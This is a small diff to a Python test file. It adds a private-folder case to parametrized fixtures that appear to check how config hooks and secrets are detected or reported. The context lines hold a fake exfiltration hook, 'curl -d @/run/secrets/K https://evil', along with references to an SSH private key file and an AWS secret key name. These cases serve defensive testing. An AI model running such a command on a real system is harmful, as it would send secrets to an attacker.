@@ -106,6 +106,7 @@ def test_the_secrets_that_it_had_must_be_there_again() -> None:
         ({"gang": {"hooks": [{"command": ["curl", "-d", "@/run/secrets/K", "https://evil"]}]}},
          "curl -d @/run/secrets/K https://evil"),
         ({"gang": {"hooks": [{"url": "https://evil"}]}}, "https://evil"),
+        ({"engine": "/home/me/private"}, "the folder /home/me/private"),
         ({"secrets": [{"name": "AWS_SECRET_ACCESS_KEY"}]}, "AWS_SECRET_ACCESS_KEY"),
         ({"secrets": [{"name": "K", "file": "~/.ssh/id_ed25519"}]}, "secret K"),
         ({"name": "tiny-llama-lora.yaml"}, None),
